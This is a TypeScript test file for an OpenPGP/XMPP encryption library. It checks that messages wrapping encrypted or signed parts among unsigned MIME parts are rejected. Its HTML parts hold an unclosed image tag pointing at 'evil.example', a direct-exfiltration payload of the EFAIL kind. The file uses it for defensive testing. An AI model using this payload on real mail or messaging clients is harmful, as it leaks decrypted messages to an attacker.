/** Direct exfiltration and mixed contexts: trees in which a part that nobody signed is shown beside a decrypted one. */
import { describe, expect, it } from 'vitest';
import { concatBytes, utf8 } from '../../src/bytes.ts';
import { openEntity } from '../../src/backends/openpgp/index.ts';
import { openStanza, parseXml, ReplayGuard, rfc3923Policy } from '../../src/index.ts';
import { wrap } from '../../src/e2e/wrap.ts';
import { at, backendOf, content, entity, juliet, nothing, person, romeo, seal } from '../unit/openpgp/scene.ts';

const j = await person(juliet);
const r = await person(romeo);
const sender = backendOf(j, [r]);
const reader = backendOf(r, [j]);
const encrypted = await seal(sender, 'encrypt');
const both = await seal(sender, 'sign+encrypt');
const signed = await seal(sender, 'sign');
const html = utf8('Content-Type: text/html\r\n\r\n<img src="http://evil.example/');

const mixed = (...parts: readonly Uint8Array[]): Uint8Array =>
  concatBytes(
    utf8('Content-Type: multipart/mixed; boundary=outer\r\n\r\n'),
    ...parts.flatMap((part) => [utf8('--outer\r\n'), part, utf8('\r\n')]),
    utf8('--outer--\r\n'),
  );

const inside = (message: Uint8Array, before: string, after: string): Uint8Array => {
  const { body, contentType } = entity(message);
  const boundary = contentType!.parameters.get('boundary')!;
  const head = message.subarray(0, message.length - body.length);
  const text = Buffer.from(body).toString('latin1');
  const last = text.lastIndexOf(`--${boundary}--`);
  return concatBytes(head, Buffer.from(`${before}${text.slice(0, last)}${after}--${boundary}--\r\n`, 'latin1'));
};

const trees: readonly (readonly [string, Uint8Array])[] = [
  ['an encrypted part between HTML parts', mixed(html, encrypted, utf8('Content-Type: text/html\r\n\r\n">'))],
  ['an encrypted part alone in a mixed one', mixed(both)],
  ['a signed part beside an unsigned one', mixed(signed, html)],
  ['a preamble before the parts', inside(both, '<img src="http://evil.example/\r\n', '')],
  ['a third part', inside(both, '', `--${entity(both).contentType!.parameters.get('boundary')!}\r\n\r\nthird\r\n`)],
  [
    'a third part beside a signature',
    inside(signed, '', `--${entity(signed).contentType!.parameters.get('boundary')!}\r\n\r\nthird\r\n`),
  ],
  ['an encrypted layer under a signature', await seal(sender, 'sign', { content: both })],
  ['an encrypted layer in an encrypted one', await seal(sender, 'encrypt', { content: both })],
  ['a signed layer under a signature', await seal(sender, 'sign', { content: signed })],
  ['a signed layer in a signed message', await seal(sender, 'sign+encrypt', { content: signed })],
  ['a mixed part with an encrypted one, signed', await seal(sender, 'sign', { content: mixed(encrypted, html) })],
];

describe.each(trees)('%s', (_, tree) => {
  it('is no stanza, under any policy', async () => {
    const shell = `<message xmlns='jabber:client' from='${juliet.toString()}/b' to='${romeo.toString()}'/>`;
    for (const policy of [undefined, rfc3923Policy]) {
      const options = { backends: [reader], me: romeo, at, replay: new ReplayGuard() };
      const opening = openStanza(wrap(parseXml(shell), tree), policy === undefined ? options : { ...options, policy });
      await expect(opening).rejects.toMatchObject({
        code: expect.stringMatching(/UNSUPPORTED|MALFORMED|LAYERS_REFUSED|PAYLOAD_INVALID|LIMIT/) as string,
      });
    }
  });

  it('shows nothing of the encrypted part to openEntity, or all of it signed', async () => {
    const options = { at, certificates: [j.certificate], keys: [{ keys: r.secret, certificates: nothing }] };
    const opened = await openEntity(tree, options).catch((error: unknown) => error);
    if (opened instanceof Error) {
      expect(opened).toHaveProperty('code');
      return;
    }
    // What is shown is exactly what somebody signed.
    const { signatures, content: shown } = opened as { signatures: readonly unknown[]; content: Uint8Array };
    expect(signatures.length).toBeGreaterThan(0);
    expect(Buffer.from(shown).includes('evil.example') && Buffer.from(shown).includes('Wherefore')).toBe(false);
    expect(Buffer.from(shown).equals(Buffer.from(content)) || Buffer.from(shown).includes('multipart/')).toBe(true);
  });
});
